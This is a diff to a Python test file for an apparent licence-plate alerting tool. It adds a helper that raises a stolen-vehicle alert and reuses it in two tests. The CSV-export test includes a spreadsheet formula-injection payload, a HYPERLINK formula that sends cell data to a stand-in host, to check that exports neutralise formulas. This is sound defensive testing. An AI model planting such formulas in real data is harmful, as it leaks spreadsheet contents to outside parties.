@@ -97,12 +97,17 @@ def test_alerter_records_speaks_publishes_and_suppresses(tmp_path: Path, mosquit
     db.close()
 
 
-def test_officer_records_dispositions_from_the_command_line(tmp_path: Path):
-    data_dir = tmp_path / "data"
+def _one_alert(data_dir: Path):
+    """A stolen-vehicle alert raised in the unit's database at data_dir: (its read, the alert)."""
     with Database.in_data_dir(data_dir) as db:
         alerter = Alerter(AlertConfig(speak=False), data_dir, db)
         read = _read("7ABC123", [Hit("7ABC123", "CA", "STOLEN_VEHICLE", "exact")])
-        alert = alerter.on_read(read, db.insert_read(read), now=0.0)
+        return read, alerter.on_read(read, db.insert_read(read), now=0.0)
+
+
+def test_officer_records_dispositions_from_the_command_line(tmp_path: Path):
+    data_dir = tmp_path / "data"
+    read, alert = _one_alert(data_dir)
     listed = run_cli("--data-dir", data_dir, "alerts", "list", "--open", "--json", "--user", "ofc1")
     assert json.loads(listed.out)["id"] == alert.id
     for bad, words in [(("--disposition", "arrested"), "not one of confirmed, misread, not-located, clets-mismatch"),
@@ -160,10 +165,7 @@ def test_alerts_as_csv_never_hand_a_spreadsheet_a_formula(tmp_path: Path):
     from edge_agent.export import csv_cell
 
     data_dir = tmp_path / "data"
-    with Database.in_data_dir(data_dir) as db:
-        alerter = Alerter(AlertConfig(speak=False), data_dir, db)
-        read = _read("7ABC123", [Hit("7ABC123", "CA", "STOLEN_VEHICLE", "exact")])
-        alert = alerter.on_read(read, db.insert_read(read), now=0.0)
+    _, alert = _one_alert(data_dir)
     note = '=HYPERLINK("http://x.example/?"&A1,"click")'
     assert run_cli("--data-dir", data_dir, "alerts", "ack", alert.id, "--disposition", "misread", "--user", "ofc1",
                    "--note", note).code == 0
